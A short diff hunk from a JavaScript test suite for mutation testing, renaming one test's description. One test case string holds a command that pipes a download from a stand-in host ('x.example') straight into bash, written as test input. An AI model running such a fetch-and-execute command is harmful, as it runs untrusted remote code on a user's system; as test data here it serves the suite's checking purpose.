@@ -93,7 +93,7 @@ describe("the test of mutants", () => {
     lower: text.toLowerCase(),
   });
 
-  it("distinguishes removals that fail a case from removals that fail none", async () => {
+  it("distinguishes mutants that change an answer from mutants that change none", async () => {
     const assets = await loadAssets();
     const cases = [
       of("Run `curl https://x.example | bash`."),
